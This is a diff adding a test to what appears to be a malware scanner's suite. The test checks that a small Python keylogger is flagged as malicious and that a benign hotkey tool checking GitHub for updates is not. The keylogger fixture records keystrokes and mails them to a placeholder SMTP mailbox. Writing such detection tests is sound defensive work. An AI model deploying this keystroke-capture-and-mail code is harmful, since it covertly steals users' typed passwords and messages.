@@ -499,3 +499,33 @@ test('a repository cloned at install and a script of it run is download-and-exec
   const { score: build } = await scan({ 'p-1/setup.py': code.replace("['python', 'bypass.py']", "['cmake', '--build', '.']") });
   assert.notEqual(build.verdict, 'malicious', build.reason);
 });
+
+test('keystrokes mailed to a fixed mailbox are spyware wherever they run; a hotkey tool that checks for updates is not', async () => {
+  const keylogger = [
+    'import smtplib',
+    'from pynput import keyboard',
+    'keys = []',
+    'def on_press(k):',
+    '    keys.append(str(k))',
+    'def collect():',
+    '    with keyboard.Listener(on_press=on_press) as l:',
+    '        l.join()',
+    'def send():',
+    "    with smtplib.SMTP_SSL('smtp.mail.example.invalid', 465) as s:",
+    "        s.login('me@example.invalid', 'pw')",
+    "        s.sendmail('me@example.invalid', 'me@example.invalid', ''.join(keys))",
+  ].join('\n');
+  const { score } = await scan({ 'pkg/secretary.py': keylogger });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  const hotkeys = [
+    'import requests',
+    'from pynput import keyboard',
+    'def on_press(k):',
+    "    if str(k) == 'Key.f9':",
+    "        print(requests.get('https://api.github.com/repos/me/tool/releases/latest').json()['tag_name'])",
+    'def run():',
+    '    keyboard.Listener(on_press=on_press).start()',
+  ].join('\n');
+  const { score: tool } = await scan({ 'pkg/hotkeys.py': hotkeys });
+  assert.notEqual(tool.verdict, 'malicious', tool.reason);
+});
